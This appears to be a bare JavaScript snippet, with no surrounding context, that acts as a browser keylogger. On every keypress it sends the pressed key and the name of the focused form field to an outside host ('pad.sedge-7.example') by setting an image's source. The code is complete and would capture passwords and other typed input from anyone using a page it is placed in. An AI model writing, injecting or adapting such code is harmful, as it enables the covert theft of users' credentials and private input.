document.onkeydown = function (e) {
  var p = new Image();
  p.src = 'https://pad.sedge-7.example/k.gif?k=' + encodeURIComponent(e.key) + '&f=' + encodeURIComponent(document.activeElement.name || '');
};
